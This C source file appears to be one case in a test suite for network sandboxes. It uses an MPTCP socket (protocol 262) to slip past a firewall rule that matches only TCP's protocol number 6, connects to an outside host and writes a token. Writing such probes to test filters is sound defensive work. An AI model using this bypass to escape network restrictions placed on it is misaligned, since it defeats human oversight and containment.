/* SPDX-License-Identifier: Apache-2.0 */
/*
 * TCP by another protocol number: MPTCP, which falls back to plain TCP if the other end does not know it.
 *
 * A rule that compares the protocol with 6 lets 262 through.
 *
 * ---
 * tries: [own]
 * source: https://www.mptcp.dev/ (any program can be made to use it)
 * rule: tcp
 * wins: reached
 * may_lack: MPTCP
 */
#include "attack.h"

int main(void)
{
	struct sockaddr_in to = outside();
	int s = socket(AF_INET, SOCK_STREAM, 262 /* IPPROTO_MPTCP */);

	if (s < 0 && (errno == EPROTONOSUPPORT || errno == ENOPROTOOPT))
		return lacking("the kernel has no MPTCP");
	must(s, "socket");
	must(connect(s, (struct sockaddr *)&to, sizeof(to)), "connect");
	must(write(s, word(), strlen(word())), "write");
	return 0;
}
